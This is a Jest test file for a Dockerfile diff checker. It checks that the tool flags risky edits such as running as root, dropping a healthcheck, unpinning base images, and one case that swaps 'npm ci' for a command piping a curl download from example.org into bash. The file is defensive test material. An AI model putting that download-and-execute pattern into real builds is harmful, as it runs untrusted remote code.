import { expect, test } from '@jest/globals'
import { readDockerfile } from '../../../src/adapters/readers/dockerfile.ts'
import { dockerfileEdits } from '../../../src/domain/edits/dockerfile-edits.ts'

const FILE = `FROM --platform=linux/amd64 node:20.1-alpine AS build
RUN npm ci
FROM node:20.1-alpine
COPY --from=build /app /app
USER node
HEALTHCHECK CMD wget -q localhost
CMD ["node", "app.js"]
`

function edits(before: string | null, after: string | null): string[] {
  const read = (text: string | null) => (text === null ? null : readDockerfile(text))
  return dockerfileEdits(read(before), read(after)).map(({ what }) => what)
}

const changed = (from: string | RegExp, to: string) => edits(FILE, FILE.replace(from, to))

test.each<[string | RegExp, string, string]>([
  ['USER node\n', '', 'it runs as root: USER node is gone'],
  ['USER node', 'USER 0:0', 'it runs as root: USER node is gone'],
  ['HEALTHCHECK CMD', 'HEALTHCHECK NONE\n#', 'it no longer has a HEALTHCHECK'],
  [/20\.1/g, '22.0', 'node goes from 20.1-alpine to 22.0-alpine'],
  [/:20\.1-alpine/g, '', 'it starts from node, which is another image each time it is pulled'],
  [/node:20\.1-alpine/g, 'alpine:3.20', 'it now starts from alpine:3.20'],
  [
    'RUN npm ci',
    'RUN curl -sL https://example.org/i | bash',
    'it now runs what it downloads: curl -sL https://example.org/i | bash',
  ],
])('%s becomes %j', (from, to, expected) => {
  expect(changed(from, to)).toEqual([expected])
})

test.each<[string | RegExp, string]>([
  [/20\.1/g, '20.2'],
  ['RUN npm ci', 'RUN npm ci --omit=dev'],
  ['USER node', 'USER 1000'],
  ['FROM node:20.1-alpine\n', 'FROM build\n'],
])('%s becomes %j without a word', (from, to) => {
  expect(changed(from, to)).toEqual([])
})

test('a new file is measured by itself, and one that is gone runs nothing', () => {
  expect(edits(null, FILE)).toEqual([])
  expect(edits(FILE, null)).toEqual([])
  expect(edits(null, `FROM \${BASE}:latest`)).toEqual([])
  expect(edits(null, 'FROM node@sha256:abc')).toEqual([])
})
